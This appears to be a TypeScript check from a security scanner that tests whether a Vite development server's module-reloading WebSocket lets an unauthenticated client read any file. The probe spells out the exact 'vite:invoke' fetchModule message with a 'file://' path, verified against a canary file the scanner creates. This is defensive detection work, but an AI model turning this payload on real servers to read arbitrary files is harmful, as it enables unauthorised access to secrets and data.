/** HTT-03: programs that connect to a development server's WebSocket can have it read any file. */

import type { ListenerCheck } from '../check.ts';
import { fixFor, type ProgramFix } from '../fixes/programs.ts';
import { openSocket } from '../probe/websocket.ts';
import { notApplicable, safe, vulnerable } from '../verdict.ts';

export const htt03: ListenerCheck = {
  id: 'HTT-03',
  title: 'Development server reads files for its WebSocket',
  about: 'listener',
  transport: 'tcp',
  severity: { loopback: 'medium', network: 'high' },
  intrusive: true,
  references: ['CWE-306', 'CVE-2026-39363'],
  speaks: ['http', 'https'],
  requests: 3,
  fix: 'update the development server, or switch module fetching over its WebSocket off',
  probe:
    'Opens the WebSocket of module reloading as a program does, without Origin, and calls `fetchModule` with a file that Loopyard has just made outside the project.',
  rule: 'Vulnerable when the random content of that file comes back, and calling it with a file that does not exist gives something else. Safe when the call is refused; not applicable where no such WebSocket is.',
  examine: async ({ target, http: { authority, tls }, connect, canary, nonce }) => {
    const { path, content } = await canary();
    const call = async (file: string): Promise<string | null> => {
      const message = JSON.stringify({
        type: 'custom',
        event: 'vite:invoke',
        data: { id: `send:${nonce()}`, name: 'fetchModule', data: [`file://${file}?raw`, null, {}] },
      });
      const opening = { path: '/', protocol: 'vite-hmr', origin: null, host: authority, message };
      const { accepted, frames } = await openSocket(opening, { connect, tls });
      return accepted ? frames.map(({ payload }) => payload.toString('utf8')).join('\n') : null;
    };
    const answer = await call(path);
    if (answer === null) return notApplicable('it has no WebSocket for module reloading');
    if (!answer.includes(content.trim())) return safe('the call gives nothing of our file');
    const beside = await call(path.replace(/[^/]*$/, nonce()));
    if (beside?.includes(content.trim()) === true) return notApplicable('every call gives that content');
    return vulnerable(
      'proven',
      [
        'fetchModule gave a file outside the project, with the random content that Loopyard had written',
        'a file beside it that does not exist gives something else',
      ],
      { fix: fixFor(target, FIXES) ?? htt03.fix },
    );
  },
};

const FIXES: readonly ProgramFix[] = [
  { program: /\bvite\b/, fix: 'update vite to 6.4.2, 7.3.2, 8.0.5 or later' },
];
